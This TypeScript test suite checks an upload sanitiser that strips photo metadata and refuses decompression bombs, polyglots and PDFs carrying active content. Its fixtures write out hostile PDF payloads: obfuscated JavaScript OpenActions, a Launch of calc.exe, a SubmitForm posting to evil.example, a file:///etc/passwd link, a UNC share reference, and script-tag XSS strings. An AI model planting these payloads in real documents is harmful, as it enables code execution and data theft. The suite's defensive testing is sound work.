import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { concat } from "./malformed-file";
import { sanitiseUpload, type SanitisedUpload, type UploadKind } from "./sanitise-upload";
import { simplePdf } from "./simple-pdf";
import {
  ascii,
  exifWithGps,
  handPdf,
  has,
  heicWithExif,
  jpegWithExif,
  jpegWithOrientation,
  jpegWithSegment,
  pdfWithCatalog,
  photo,
  pngChunk,
  pngClaiming,
  pngWith,
  pngWithMetadata,
  u16be,
  webpWithExif,
} from "./test-support/crafted-files";
import { PRESCRIPTION_MAX_BYTES, REPORT_MAX_BYTES } from "./upload-limits";

const GPS = "GPS-POSITION-OF-THE-HOME";

async function accepted(bytes: Uint8Array, kind: UploadKind = "prescription") {
  const result = await sanitiseUpload(bytes, kind);
  if (!result.ok) throw new Error(`refused: ${result.code}`);
  return result;
}

const refusal = async (bytes: Uint8Array | null, kind: UploadKind = "prescription") => {
  const result: SanitisedUpload = await sanitiseUpload(bytes, kind);
  return result.ok ? "accepted" : result.code;
};

describe("sanitiseUpload: photos are re-encoded, so nothing but the picture survives", () => {
  const exifGps = concat([ascii("Exif\0\0"), exifWithGps()]);

  it.each([
    ["APP1 (Exif, XMP)", jpegWithExif()],
    ["APP2 'ICC_PROFILE'", jpegWithSegment(0xe2, concat([ascii("ICC_PROFILE\0"), new Uint8Array([1, 1]), exifGps]))],
    ["APP3", jpegWithSegment(0xe3, exifGps)],
    ["APP4", jpegWithSegment(0xe4, exifGps)],
    ["APP12", jpegWithSegment(0xec, exifGps)],
    ["APP15", jpegWithSegment(0xef, exifGps)],
    ["COM", jpegWithSegment(0xfe, ascii(`lat 22.5726 lon 88.3639 ${GPS}`))],
  ])("JPEG: a location in %s is gone; the picture is the same size", async (_where, jpeg) => {
    expect(has(jpeg, GPS) || has(jpeg, "GPS-IN-XMP")).toBe(true);
    const result = await accepted(jpeg);
    expect(result.mime).toBe("image/jpeg");
    expect(has(result.bytes, GPS)).toBe(false);
    expect(has(result.bytes, "GPS-IN-XMP")).toBe(false);
    expect(has(result.bytes, "Exif")).toBe(false);
    const meta = await sharp(result.bytes).metadata();
    expect([meta.format, meta.width, meta.height, meta.exif, meta.icc, meta.comments]).toEqual(["jpeg", 24, 16, undefined, undefined, undefined]);
  });

  it("JPEG: turned upright by its Exif orientation before the tag is dropped", async () => {
    const result = await accepted(jpegWithOrientation(6));
    const meta = await sharp(result.bytes).metadata();
    expect([meta.width, meta.height, meta.orientation]).toEqual([16, 24, undefined]);
  });

  it("PNG: eXIf, text chunks and a private chunk (prVt) holding a location are gone", async () => {
    const png = pngWith(pngChunk("prVt", ascii(`lat 22.5726 lon 88.3639 ${GPS}`)));
    for (const bytes of [png, pngWithMetadata()]) {
      const result = await accepted(bytes);
      expect(result.mime).toBe("image/png");
      expect(has(result.bytes, GPS)).toBe(false);
      expect(has(result.bytes, "prVt")).toBe(false);
      expect(has(result.bytes, "GPS-IN-TEXT")).toBe(false);
      expect(has(result.bytes, "GPS-IN-XMP")).toBe(false);
      expect((await sharp(result.bytes).metadata()).width).toBe(24);
    }
  });

  it("WebP: EXIF and XMP chunks are gone", async () => {
    const result = await accepted(webpWithExif());
    expect(result.mime).toBe("image/webp");
    expect(has(result.bytes, GPS)).toBe(false);
    expect(has(result.bytes, "GPS-IN-XMP")).toBe(false);
    expect((await sharp(result.bytes).metadata()).format).toBe("webp");
  });

  it("polyglots: an archive appended to a photo is not in the stored copy", async () => {
    const zip = ascii("PK\u0003\u0004 appended archive with a script inside");
    for (const [ext, mime] of [["jpg", "image/jpeg"], ["png", "image/png"], ["webp", "image/webp"]] as const) {
      const result = await sanitiseUpload(concat([photo(ext), zip]), "prescription");
      if (result.ok) {
        expect(result.mime).toBe(mime);
        expect(has(result.bytes, "appended archive")).toBe(false);
      } else {
        expect(result.code).toBe("prescriptionType");
      }
    }
  });

  it("HEIC (not decodable by sharp's build): the Exif item's data is blanked, the image item is untouched", async () => {
    const heic = heicWithExif();
    const result = await accepted(heic);
    expect(result.mime).toBe("image/heic");
    expect(has(result.bytes, GPS)).toBe(false);
    expect(has(result.bytes, "HEVC-IMAGE-DATA-0123456789")).toBe(true);
    expect(result.bytes.length).toBe(heic.length);
  });
});

describe("sanitiseUpload: decompression bombs are refused from their header", () => {
  it.each([
    [30_000, 30_000],
    [60_000, 60_000],
    [8_000, 5_001],
  ])("a PNG claiming %i × %i pixels: 'too large (more than 40 megapixels)', 413", async (width, height) => {
    expect(await sanitiseUpload(pngClaiming(width, height), "prescription")).toEqual({ ok: false, code: "prescriptionTooManyPixels", status: 413 });
  });

  it("a PNG just under the limit gets past the size check (and is refused only for its missing pixels)", async () => {
    expect(await refusal(pngClaiming(8_000, 5_000))).toBe("prescriptionType");
  });

  it("a height libpng itself refuses (1 × 2^31−1) is refused as a damaged file", async () => {
    expect(await sanitiseUpload(pngClaiming(1, 2 ** 31 - 1), "prescription")).toEqual({ ok: false, code: "prescriptionType", status: 415 });
  });
});

/** The bypasses of the old byte search (security review M3) and the rest of what a PDF must not carry. */
const ACTIVE_PDFS: [string, () => Promise<Uint8Array> | Uint8Array][] = [
  ["a name-escaped JavaScript OpenAction (/J#61vaScript /J#53)", () => pdfWithCatalog("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")],
  ["a lower-case name escape (/#4aava#53cript)", () => pdfWithCatalog("/OpenAction << /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >>")],
  ["the script as a hex string", () => pdfWithCatalog("/OpenAction << /S /Java#53cript /J#53 <6170702e616c657274283129> >>")],
  [
    "the script inside a compressed object stream",
    async () => {
      const document = await PDFDocument.create();
      document.addPage();
      const action = document.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") });
      document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
      return document.save({ useObjectStreams: true });
    },
  ],
  ["a Launch action (/L#61unch)", () => pdfWithCatalog("/OpenAction << /S /L#61unch /F (calc.exe) >>")],
  ["a javascript: link", () => pdfWithCatalog("", "/Annots [4 0 R]", ["<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>"])],
  ["a javascript: link with a space and upper case", () => pdfWithCatalog("", "/Annots [4 0 R]", ["<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI ( JavaScript:x) >> >>"])],
  ["a file: link as a hex string", () => pdfWithCatalog("/OpenAction << /S /URI /URI <66696c653a2f2f2f6574632f706173737764> >>")],
  ["a SubmitForm action", () => pdfWithCatalog("/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>")],
  ["an ImportData action", () => pdfWithCatalog("/OpenAction << /S /ImportData /F (data.fdf) >>")],
  ["a GoToR to another file", () => pdfWithCatalog("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")],
  ["a script in the document's /Names /JavaScript tree", () => pdfWithCatalog("/Names << /JavaScript 4 0 R >>", "", ["<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"])],
  ["a page's additional action (/AA)", () => pdfWithCatalog("", "/AA << /O << /S /JavaScript /JS 4 0 R >> >>", ["<< /Length 12 >>\nstream\napp.alert(1)\nendstream"])],
  [
    "a form field's action",
    () => pdfWithCatalog("/AcroForm << /Fields [4 0 R] >>", "/Annots [4 0 R]", ["<< /Type /Annot /Subtype /Widget /FT /Btn /T (f) /Rect [0 0 9 9] /A << /S /Res#65tForm >> >>"]),
  ],
  ["an embedded file", () => pdfWithCatalog("/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>", "", ["<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"])],
  ["a RichMedia annotation", () => pdfWithCatalog("", "/Annots [4 0 R]", ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"])],
  ["a 3D annotation (its model carries scripts)", () => pdfWithCatalog("", "/Annots [4 0 R]", ["<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"])],
  ["a script 2,000 arrays deep", () => pdfWithCatalog(`/Extra ${"[".repeat(2000)}<< /S /JavaScript /JS (x) >>${"]".repeat(2000)}`)],
  ["an XFA form", () => pdfWithCatalog("/AcroForm << /Fields [] /XFA 4 0 R >>", "", ["<< /Length 7 >>\nstream\n<xdp/>\nendstream"])],
];

describe("sanitiseUpload: PDFs are parsed (pdf-lib) and refused when they carry active content", () => {
  it.each(ACTIVE_PDFS)("%s is refused, as a prescription and as a report", async (_what, make) => {
    const pdf = await make();
    expect(await sanitiseUpload(pdf, "prescription")).toEqual({ ok: false, code: "prescriptionPdfActive", status: 415 });
    expect(await sanitiseUpload(pdf, "report")).toEqual({ ok: false, code: "reportPdfActive", status: 415 });
  });

  it("a plain report, a minimal catalog and an https link are accepted byte for byte", async () => {
    const plain = [
      simplePdf(["Haemoglobin 13.5 g/dL"]),
      pdfWithCatalog(""),
      pdfWithCatalog("", "/Annots [4 0 R]", ["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://nikat.in/lab) >> >>"]),
      pdfWithCatalog("/JSX 1", "/Contents 4 0 R", ["<< /Length 17 >>\nstream\n/JS (not a key) x\nendstream"]),
    ];
    for (const pdf of plain) {
      expect(await sanitiseUpload(pdf, "prescription")).toEqual({ ok: true, bytes: pdf, mime: "application/pdf" });
      expect(await sanitiseUpload(pdf, "report")).toEqual({ ok: true, bytes: pdf, mime: "application/pdf" });
    }
  });

  it("an encrypted PDF is refused: its strings and object streams cannot be looked into", async () => {
    const encrypted = handPdf(
      ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>"],
      "/Encrypt 3 0 R /ID [<01> <01>] ",
    );
    expect(await refusal(encrypted)).toBe("prescriptionPdfLocked");
    expect(await refusal(encrypted, "report")).toBe("reportPdfLocked");
  });

  it("a PDF pdf-lib cannot read, one with no catalog and one with no page are refused as unreadable", async () => {
    const broken = ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Kids [ >> endobj\n%%EOF\n");
    const noPages = handPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]);
    for (const pdf of [broken, ascii("%PDF-1.4 not really"), noPages]) {
      expect(await refusal(pdf)).toBe("prescriptionPdfUnreadable");
      expect(await refusal(pdf, "report")).toBe("reportPdfUnreadable");
    }
  });

  it("arrays nested 200,000 deep are refused as unreadable, not a crash", async () => {
    expect(await refusal(pdfWithCatalog(`/Extra ${"[".repeat(200_000)}${"]".repeat(200_000)}`))).toBe("prescriptionPdfUnreadable");
  });

  it("markup in a PDF is still refused", async () => {
    expect(await refusal(pdfWithCatalog("/Title (<script>alert\\(1\\)</script>)"))).toBe("prescriptionPdfActive");
  });
});

describe("sanitiseUpload: refusals by type and size", () => {
  it("no file, or an empty one", async () => {
    expect(await refusal(null)).toBe("prescriptionMissing");
    expect(await refusal(new Uint8Array())).toBe("prescriptionMissing");
    expect(await refusal(null, "report")).toBe("reportMissing");
  });

  it("a text file, GIF, ZIP, SVG are refused by their bytes; a report must be a PDF", async () => {
    expect(await refusal(ascii("This is my prescription, honestly.\n"))).toBe("prescriptionType");
    expect(await refusal(concat([ascii("GIF89a"), new Uint8Array(40)]))).toBe("prescriptionType");
    expect(await refusal(concat([new Uint8Array([0x50, 0x4b, 0x03, 0x04]), new Uint8Array(40)]))).toBe("prescriptionType");
    expect(await refusal(ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toBe("prescriptionType");
    expect(await refusal(photo("jpg"), "report")).toBe("reportType");
  });

  it("markup or a PDF inside a photo is refused", async () => {
    const jpeg = photo("jpg");
    const comment = ascii("<script>alert(1)</script>");
    expect(await refusal(concat([jpeg.subarray(0, 2), new Uint8Array([0xff, 0xfe]), u16be(comment.length + 2), comment, jpeg.subarray(2)]))).toBe("prescriptionType");
    expect(await refusal(concat([jpeg.subarray(0, jpeg.length - 2), ascii("%PDF-1.4 obj"), jpeg.subarray(jpeg.length - 2)]))).toBe("prescriptionType");
    expect(await refusal(concat([photo("png"), ascii("<html><script>alert(1)</script>")]))).toBe("prescriptionType");
  });

  it("a photo cut short is refused", async () => {
    const jpeg = photo("jpg");
    expect(await refusal(jpeg.subarray(0, jpeg.length - 40))).toBe("prescriptionType");
    const png = photo("png");
    expect(await refusal(png.subarray(0, png.length - 40))).toBe("prescriptionType");
  });

  it("over the size limits: 413", async () => {
    const big = new Uint8Array(PRESCRIPTION_MAX_BYTES + 1);
    big.set(photo("jpg").subarray(0, 4));
    expect(await sanitiseUpload(big, "prescription")).toEqual({ ok: false, code: "prescriptionTooLarge", status: 413 });
    expect(await sanitiseUpload(new Uint8Array(REPORT_MAX_BYTES + 1), "report")).toEqual({ ok: false, code: "reportTooLarge", status: 413 });
  });
});
